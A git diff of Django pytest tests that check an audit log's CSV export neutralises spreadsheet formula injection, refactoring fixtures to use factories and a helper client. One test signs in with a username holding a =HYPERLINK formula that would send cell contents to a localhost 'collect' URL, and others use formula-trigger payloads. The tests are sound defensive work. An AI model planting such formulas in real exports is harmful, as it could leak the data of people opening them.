@@ -7,13 +7,12 @@ import pytest
 from django.core.cache import cache
 from django.test import Client
 from guardian.shortcuts import assign_perm
-from rest_framework.test import APIClient
 
-from accounts.models import User
 from audit.export import CSV_HEADER, CSV_NOTICE, spreadsheet_cell
 from core.source import Source
 from registry import services
-from tests.factories import AssetFactory, VersionFactory
+from tests.factories import AssetFactory, UserFactory, VersionFactory
+from tests.helpers import api_client
 
 pytestmark = pytest.mark.django_db
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -21,10 +20,8 @@ HYPERLINK = '=HYPERLINK("http://127.0.0.1/collect?x="&A1,"Open")'
 
 
 @pytest.fixture
-def auditor():
-    client = APIClient()
-    client.force_authenticate(User.objects.create_user("audrey", global_role="auditor"))
-    return client
+def auditor_api(auditor):
+    return api_client(auditor)
 
 
 def download(client, url="/api/v1/audit/export?format=csv"):
@@ -37,24 +34,24 @@ def rows(text):
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
-def test_a_failed_sign_in_named_like_a_formula_is_not_a_formula_in_the_csv(auditor):
+def test_a_failed_sign_in_named_like_a_formula_is_not_a_formula_in_the_csv(auditor_api):
     cache.clear()
     Client(REMOTE_ADDR="10.9.9.9").post("/accounts/login/", {"username": HYPERLINK, "password": "x"})
-    _, text = download(auditor)
+    _, text = download(auditor_api)
     cells = [cell for row in rows(text) for cell in row]
     assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
     assert any(cell.startswith("'=hyperlink(") for cell in cells)  # the sign-in name, shown as text
 
 
 @pytest.mark.parametrize("name", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"])
-def test_every_column_is_neutralised(auditor, name):
-    owner = User.objects.create_user("=owner")  # a name in the actor column too
+def test_every_column_is_neutralised(auditor_api, name):
+    owner = UserFactory(username="=owner")  # a name in the actor column too
     asset = AssetFactory(name="fraud")
     assign_perm("registry.contribute_asset", owner, asset)
     services.evaluation_add(
         actor=owner, source=Source.cli(), version=VersionFactory(asset=asset), name=name, metrics={"auc": 0.9}
     )
-    _, text = download(auditor)
+    _, text = download(auditor_api)
     (event,) = [row for row in rows(text) if row[4:5] == ["evaluation.added"]]
     record = dict(zip(CSV_HEADER, event, strict=True))
     assert record["target"] == f"'{name} of model/fraud@1"
@@ -62,11 +59,11 @@ def test_every_column_is_neutralised(auditor, name):
     assert not [cell for row in rows(text) for cell in row if cell.startswith(TRIGGERS)]
 
 
-def test_the_header_is_the_first_line_and_the_notice_the_last(auditor):
+def test_the_header_is_the_first_line_and_the_notice_the_last(auditor_api):
     asset = AssetFactory(name="fraud")
-    owner = User.objects.create_user("mia", global_role="admin")
+    owner = UserFactory(username="mia", global_role="admin")
     services.asset_update(actor=owner, source=Source.cli(), asset=asset, description="d")
-    response, text = download(auditor)
+    response, text = download(auditor_api)
     table = rows(text)
     assert table[0] == CSV_HEADER
     assert table[-1] == [f"# {CSV_NOTICE}"]
